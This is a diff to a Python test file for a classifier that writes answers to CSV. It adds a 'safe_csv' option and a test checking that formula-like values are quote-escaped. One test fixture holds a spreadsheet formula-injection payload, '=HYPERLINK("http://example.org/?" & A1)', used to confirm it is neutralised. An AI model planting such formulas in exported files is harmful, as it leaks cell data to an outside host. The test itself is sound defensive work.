@@ -46,8 +46,8 @@ def new(texts, tmp_path):
 def classify(pipe, new, tmp_path, monkeypatch):
     """Classifies the file, or is interrupted after all answers are kept; gives how many answers were resumed."""
 
-    def classify(name, column="body", interrupted=False, **options):
-        files = PredictionFiles(new[0], tmp_path / name, column)
+    def classify(name, column="body", interrupted=False, safe_csv=False, **options):
+        files = PredictionFiles(new[0], tmp_path / name, column, safe_csv=safe_csv)
         if not interrupted:
             return classify_file(pipe, files, show_progress=False, **options).resumed
         with monkeypatch.context() as patched, pytest.raises(ZeroDivisionError):
@@ -141,6 +141,23 @@ def test_interrupted_anywhere_it_gives_the_same_file(classify, tmp_path, ending)
         assert classify(target.name, overwrite=True) == (BLOCK if end >= after_block else 0)
         assert target.read_bytes() == whole.read_bytes()
         assert not partial.exists() and not list(tmp_path.glob("*.tmp"))
+
+
+def test_answers_that_are_safe_in_a_spreadsheet(classify, new, tmp_path):
+    source, rows = new
+    formula = '=HYPERLINK("http://example.org/?" & A1)'
+    source.write_text("".join(json.dumps({"nr": formula, "@": -1.5, "body": row["body"]}) + "\n" for row in rows))
+    classify("raw.csv")
+    classify("safe.csv", safe_csv=True)
+    raw, safe = ((tmp_path / name).read_text() for name in ("raw.csv", "safe.csv"))
+    assert formula in {row["nr"] for row in csv.DictReader(raw.splitlines())}
+    written = list(csv.DictReader(safe.splitlines()))
+    assert {row["nr"] for row in written} == {f"'{formula}"} and {row["'@"] for row in written} == {"-1.5"}
+    assert list(read_rows(tmp_path / "safe.csv")) == list(read_rows(tmp_path / "raw.csv"))
+    # The answers so far are the same either way.
+    classify("killed.csv", interrupted=True)
+    assert classify("killed.csv", safe_csv=True) == BLOCK
+    assert (tmp_path / "killed.csv").read_text() == safe
 
 
 @pytest.mark.parametrize("change", ["input", "examples", "options", "columns", "more answers"])
